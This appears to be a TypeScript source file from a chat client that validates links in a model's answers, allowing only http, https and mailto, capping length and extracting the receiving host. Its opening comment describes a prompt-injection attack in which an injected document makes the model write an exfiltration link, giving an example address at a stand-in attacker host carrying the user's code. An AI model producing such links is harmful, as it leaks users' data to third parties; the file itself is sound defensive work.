/**
 * Links in a model's answer. Opening one sends its whole address to another machine, and a prompt-injected document
 * can make the model write an address that carries the user's text (https://attacker.example/?q=<your code>). The
 * chat opens a link only after the user has seen the full address and confirmed (src/chat/chatLinks.ts); this is
 * the part that decides what may be opened at all and what the user is shown.
 */

/** Longer addresses are refused: nobody can check them by eye, and they are the shape of an exfiltration link. */
export const MAX_LINK_LENGTH = 2048;

export interface ModelLink {
    /** The normalised address that is shown in full and opened (international host names in punycode). */
    url: string;
    scheme: "http" | "https" | "mailto";
    /** Who receives it: the host name, or the mail address's domain. */
    receiver: string;
}

export function parseModelLink(href: unknown): ModelLink | undefined {
    if (typeof href !== "string") return undefined;
    const trimmed = href.trim();
    if (!trimmed || trimmed.length > MAX_LINK_LENGTH) return undefined;
    let url: URL;
    try {
        url = new URL(trimmed);
    } catch {
        return undefined;
    }
    const scheme = url.protocol.slice(0, -1);
    if (scheme !== "http" && scheme !== "https" && scheme !== "mailto") return undefined;
    if (scheme === "mailto") {
        const domain = /@([^?]+)/.exec(decodeURIComponentSafe(url.pathname))?.[1] ?? "";
        return { url: url.href, scheme, receiver: domain.toLowerCase() };
    }
    if (!url.hostname) return undefined;
    return { url: url.href, scheme, receiver: url.hostname };
}

function decodeURIComponentSafe(text: string): string {
    try {
        return decodeURIComponent(text);
    } catch {
        return text;
    }
}
